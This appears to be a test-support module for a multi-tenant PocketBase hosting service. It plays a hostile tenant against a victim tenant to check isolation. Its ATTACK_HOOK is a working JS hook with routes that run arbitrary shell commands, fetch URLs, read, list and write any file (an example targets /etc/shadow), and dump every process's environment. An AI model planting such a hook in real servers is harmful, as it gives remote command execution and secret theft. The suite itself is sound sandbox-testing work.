"""A hostile tenant, as the suite plays it: an account whose PocketBase instance runs a JS hook
(`ATTACK_HOOK`, in its `pb_hooks/`, owned by the instance's uid) with routes that try to reach
outside the instance and answer what they got; and a victim tenant with a secret record and a
secret variable the attacker must never see.

    attacker = Tenant(serve, "attacker")
    hostile = Hostile.create(attacker, "evil")     # a running instance with the hook loaded
    hostile.read("/etc/shadow")                    # Outcome(ok=False, error="... no such file")
    hostile.sh("id -u; ls /proc")                  # Shell(output, code) of `sh -c` in it
    victim = Victim.create(Tenant(serve, "victim"), "vault")

Every call goes through the instance's own subdomain, the way a tenant reaches its own code.
"""

from __future__ import annotations

import itertools
import os
import secrets
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx

from tests.support.server import ServeProcess, sign_up

SUPERUSER_PASSWORD = "a-long-password-1"
# Secrets in the control plane's own environment (the suite's `serve` has them): S3
# credentials, which no instance process may ever see.
CONTROL_PLANE_SECRETS = {
    "PF_S3_ACCESS_KEY": f"cp-access-{secrets.token_hex(8)}",
    "PF_S3_SECRET_KEY": f"cp-secret-{secrets.token_hex(8)}",
}
_ids = itertools.count()

# What a hostile tenant ships in pb_hooks/ (PocketBase 0.40's JSVM: `$os` has readFile,
# readDir, writeFile, stat, cmd/exec, getenv, ... but no symlink; `sh -c` has `ln`). Each
# handler runs in a VM of the pool on its own: nothing outside a handler is visible in it.
ATTACK_HOOK = r"""
routerAdd("GET", "/attack/ping", (e) => e.json(200, { alive: true }))

routerAdd("POST", "/attack/read", (e) => {
    const path = e.requestInfo().body.path
    try {
        const data = $os.readFile(path)
        return e.json(200, { ok: true, text: toString(data) })
    } catch (err) {
        return e.json(200, { ok: false, error: String(err) })
    }
})

routerAdd("POST", "/attack/list", (e) => {
    const path = e.requestInfo().body.path
    try {
        const entries = $os.readDir(path)
        const names = []
        for (let i = 0; i < entries.length; i++) names.push(entries[i].name())
        return e.json(200, { ok: true, text: JSON.stringify(names.sort()) })
    } catch (err) {
        return e.json(200, { ok: false, error: String(err) })
    }
})

routerAdd("POST", "/attack/write", (e) => {
    const body = e.requestInfo().body
    try {
        $os.writeFile(body.path, body.data, 0o644)
        return e.json(200, { ok: true, text: toString($os.readFile(body.path)) })
    } catch (err) {
        return e.json(200, { ok: false, error: String(err) })
    }
})

routerAdd("POST", "/attack/http", (e) => {
    const url = e.requestInfo().body.url
    try {
        const res = $http.send({ url: url, method: "GET", timeout: 5 })
        return e.json(200, { ok: true, text: String(res.statusCode) + " " + toString(res.body) })
    } catch (err) {
        return e.json(200, { ok: false, error: String(err) })
    }
})

routerAdd("POST", "/attack/sh", (e) => {
    const script = e.requestInfo().body.script
    const wrapper = '(eval "$1") </dev/null 2>&1; echo "__rc=$?"'
    const out = toString($os.cmd("sh", "-c", wrapper, "sh", script).combinedOutput())
    const at = out.lastIndexOf("__rc=")
    return e.json(200, { output: out.slice(0, at), code: parseInt(out.slice(at + 5)) })
})

routerAdd("GET", "/attack/env/{name}", (e) => {
    return e.json(200, { value: $os.getenv(e.request.pathValue("name")) })
})

routerAdd("GET", "/attack/procs", (e) => {
    const read = (path) => {
        try { return toString($os.readFile(path)) } catch (err) { return null }
    }
    const entries = $os.readDir("/proc")
    const procs = []
    for (let i = 0; i < entries.length; i++) {
        const pid = entries[i].name()
        if (!/^[0-9]+$/.test(pid)) continue
        procs.push({
            pid: parseInt(pid),
            cmdline: read("/proc/" + pid + "/cmdline"),
            environ: read("/proc/" + pid + "/environ"),
            status: read("/proc/" + pid + "/status"),
        })
    }
    return e.json(200, procs)
})
"""


def litestream_config(data: Path, instance_id: str) -> Path:
    """The configuration of the Litestream that replicates the instance (`data`: the data
    folder; replication shards each have one): the one that lists its folder, which must
    exist (a read refused because there is no such file would prove nothing)."""
    folder = f"/instances/{instance_id}/"
    deadline = time.monotonic() + 30
    while True:
        for config in sorted((data / "litestream").glob("shard-*/litestream.json")):
            if folder in config.read_text():
                return config
        assert time.monotonic() < deadline, f"no Litestream configuration lists {instance_id}"
        time.sleep(0.1)


def unique(prefix: str) -> str:
    return f"{prefix}{next(_ids)}{secrets.token_hex(2)}"


def eventually(check: Callable[[], bool], timeout: float = 30, what: str = "condition") -> None:
    deadline = time.monotonic() + timeout
    while not check():
        assert time.monotonic() < deadline, f"{what}: not met within {timeout}s"
        time.sleep(0.05)


@dataclass(frozen=True)
class Outcome:
    """What one file or network attack got: `ok` with the `text` read, or the `error`."""

    ok: bool
    text: str = ""
    error: str = ""

    @property
    def refused(self) -> bool:
        """Failed the way a sandbox makes it fail: nothing there, or not allowed."""
        error = self.error.lower()
        reasons = ("no such file", "permission denied", "read-only file system", "not permitted")
        return not self.ok and any(reason in error for reason in reasons)


@dataclass(frozen=True)
class Shell:
    output: str
    code: int


@dataclass(frozen=True)
class Instance:
    """An instance as the host sees it."""

    name: str
    id: str
    folder: Path

    @property
    def uid(self) -> int:
        return self.folder.stat().st_uid

    @property
    def database(self) -> Path:
        return self.folder / "pb_data" / "data.db"


def plant(instance: Instance, rel: str, data: bytes, mode: int = 0o644) -> Path:
    """Write `rel` into the instance's folder as its tenant would (owned by its uid)."""
    uid = instance.uid
    path = instance.folder / rel
    missing = [p for p in reversed(path.parents) if instance.folder in p.parents and not p.exists()]
    path.parent.mkdir(parents=True, exist_ok=True)
    for folder in missing:
        os.chown(folder, uid, uid)
    path.write_bytes(data)
    os.chown(path, uid, uid)
    path.chmod(mode)
    return path


class Tenant:
    """An account and what it does through the control plane's API."""

    def __init__(self, serve: ServeProcess, label: str) -> None:
        self.serve = serve
        self.email = f"{unique(label)}@example.com"
        self.api = serve.client()
        self.api.headers["Authorization"] = f"Bearer {sign_up(self.api, self.email)}"

    def create(
        self, name: str, *, engine: str | None = None, password: str | None = SUPERUSER_PASSWORD
    ) -> Instance:
        body: dict[str, Any] = {"name": name}
        if engine is not None:
            body["engine"] = engine
        if password is not None:
            body["superuser_password"] = password
        created = self.api.post("/api/instances", json=body)
        assert created.status_code == 201, created.text
        self.wait_status(name, "running")
        instance_id = created.json()["id"]
        return Instance(
            name, instance_id, self.serve.data_dir.resolve() / "instances" / instance_id
        )

    def row(self, name: str) -> dict[str, Any]:
        answer = self.api.get(f"/api/instances/{name}")
        assert answer.status_code == 200, answer.text
        row: dict[str, Any] = answer.json()
        return row

    def wait_status(self, name: str, status: str, timeout: float = 60) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        while (row := self.row(name))["status"] != status:
            assert time.monotonic() < deadline, f"{name} is not {status}: {row}"
            time.sleep(0.05)
        return row

    def move(self, name: str, verb: str) -> None:
        """`start` or `stop`, and wait until the instance is there."""
        moved = self.api.post(f"/api/instances/{name}/{verb}")
        assert moved.status_code == 200, moved.text
        self.wait_status(name, "running" if verb == "start" else "stopped")

    def put_env(self, name: str, env: dict[str, str]) -> httpx.Response:
        return self.api.put(f"/api/instances/{name}/env", json={"vars": env})

    def set_env_and_restart(self, name: str, env: dict[str, str]) -> None:
        """Replace the variables and wait until the instance runs again with them."""
        before = self.row(name)["started"]
        put = self.put_env(name, env)
        assert put.status_code == 200, put.text
        eventually(
            lambda: (row := self.row(name))["status"] == "running" and row["started"] != before,
            what=f"{name} restarted with its variables",
        )

    @contextmanager
    def superuser(self, name: str) -> Iterator[httpx.Client]:
        """A client of the instance through its subdomain, signed in as its superuser (the
        first request wakes it if it sleeps)."""
        with self.serve.instance_client(name) as client:
            auth = request(
                client,
                "POST",
                "/api/collections/_superusers/auth-with-password",
                json={"identity": self.email, "password": SUPERUSER_PASSWORD},
            )
            assert auth.status_code == 200, auth.text
            client.headers["Authorization"] = auth.json()["token"]
            yield client


def request(client: httpx.Client, method: str, path: str, **kwargs: Any) -> httpx.Response:
    """One request, repeated while the proxy answers 503 with Retry-After (a wake under way)."""
    for _ in range(100):
        answer = client.request(method, path, **kwargs)
        if answer.status_code != 503 or "retry-after" not in answer.headers:
            return answer
        time.sleep(0.2)
    return answer


@dataclass
class Victim:
    """Another tenant's instance: a record holding `secret` in a collection `vault`, and a
    variable VAULT_TOKEN = `env_secret`."""

    tenant: Tenant
    instance: Instance
    secret: str = field(default_factory=lambda: f"victim-record-{secrets.token_hex(8)}")
    env_secret: str = field(default_factory=lambda: f"victim-env-{secrets.token_hex(8)}")

    @classmethod
    def create(cls, tenant: Tenant, name: str) -> Victim:
        victim = cls(tenant, tenant.create(name))
        with tenant.superuser(name) as pb:
            made = pb.post(
                "/api/collections",
                json={"name": "vault", "type": "base", "fields": [{"name": "v", "type": "text"}]},
            )
            assert made.status_code == 200, made.text
            added = pb.post("/api/collections/vault/records", json={"v": victim.secret})
            assert added.status_code == 200, added.text
        # the instance restarts with its variable: its WAL is checkpointed into data.db
        tenant.set_env_and_restart(name, {"VAULT_TOKEN": victim.env_secret})
        return victim

    def database_bytes(self) -> bytes:
        """The victim's database as root reads it: the file and its WAL."""
        db = self.instance.database
        wal = db.with_name(db.name + "-wal")
        return db.read_bytes() + (wal.read_bytes() if wal.exists() else b"")

    def secrets_seen(self) -> list[str]:
        """The victim's secret record values, read through its own API."""
        with self.tenant.superuser(self.instance.name) as pb:
            listed = request(pb, "GET", "/api/collections/vault/records")
        assert listed.status_code == 200, listed.text
        return [item["v"] for item in listed.json()["items"]]


class Hostile:
    """A running instance whose tenant shipped `ATTACK_HOOK`, called through its subdomain."""

    def __init__(
        self,
        tenant: Tenant,
        instance: Instance,
        client: Callable[[], httpx.Client] | None = None,
    ) -> None:
        self.tenant = tenant
        self.instance = instance
        self._client = client or (lambda: tenant.serve.instance_client(instance.name))

    @classmethod
    def create(
        cls,
        tenant: Tenant,
        name: str,
        client: Callable[[], httpx.Client] | None = None,
    ) -> Hostile:
        """Create the instance, put the hook into its pb_hooks/ and restart it so that
        PocketBase loads it."""
        instance = tenant.create(name)
        tenant.move(name, "stop")
        plant(instance, "pb_hooks/attack.pb.js", ATTACK_HOOK.encode())
        tenant.move(name, "start")
        hostile = cls(tenant, instance, client)
        hostile.assert_alive()
        return hostile

    def call(self, method: str, path: str, body: dict[str, Any] | None = None) -> Any:
        with self._client() as client:
            answer = request(client, method, path, json=body)
        assert answer.status_code == 200, f"{path}: {answer.status_code} {answer.text[:500]}"
        return answer.json()

    def _outcome(self, route: str, **body: str) -> Outcome:
        got = self.call("POST", f"/attack/{route}", body)
        return Outcome(got["ok"], got.get("text", ""), got.get("error", ""))

    def read(self, path: str | Path) -> Outcome:
        return self._outcome("read", path=str(path))

    def listdir(self, path: str | Path) -> Outcome:
        return self._outcome("list", path=str(path))

    def write(self, path: str | Path, data: str) -> Outcome:
        return self._outcome("write", path=str(path), data=data)

    def http(self, url: str) -> Outcome:
        return self._outcome("http", url=url)

    def sh(self, script: str) -> Shell:
        got = self.call("POST", "/attack/sh", {"script": script})
        return Shell(got["output"], got["code"])

    def getenv(self, name: str) -> str:
        value: str = self.call("GET", f"/attack/env/{name}")["value"]
        return value

    def procs(self) -> list[dict[str, Any]]:
        procs: list[dict[str, Any]] = self.call("GET", "/attack/procs")
        return procs

    def assert_alive(self) -> None:
        """The attacker's own instance still serves it: its hook and PocketBase's own API."""
        assert self.call("GET", "/attack/ping") == {"alive": True}
        assert self.call("GET", "/api/health")["code"] == 200


def status_field(status: str, name: str) -> str:
    """A field of a /proc/PID/status text ("Uid" -> "200003\t200003\t200003\t200003")."""
    for line in status.splitlines():
        key, _, value = line.partition(":")
        if key == name:
            return value.strip()
    raise KeyError(name)
